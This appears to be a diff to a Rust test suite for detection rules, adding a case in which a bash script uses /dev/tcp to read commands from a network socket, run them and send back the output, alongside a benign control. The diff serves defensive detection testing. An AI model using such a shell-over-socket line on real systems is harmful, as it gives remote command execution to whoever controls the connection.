@@ -108,6 +108,18 @@ pub const CASES: &[Case] = &[
         ],
     },
     Case {
+        rule: "Command answers over a network connection",
+        attacks: &[act("line_by_line", |s| {
+            let script = "exec 5<>/dev/tcp/127.0.0.1/$2; while read -r line <&5; do \
+                $line >&5 2>&5 </dev/null || break; done";
+            scripted(s, "bash", script)
+        })],
+        evasions: &[],
+        benign: &[act("text_sent_by_a_shell", |s| {
+            scripted(s, "bash", "exec 5<>/dev/tcp/127.0.0.1/$2; id -u >&5; id -u")
+        })],
+    },
+    Case {
         rule: "Standard streams turned into a network connection",
         attacks: &[
             act("python", |s| from_file(s, PYTHON, PYTHON_REDIRECTED)).showing(&["T1059.006"]),
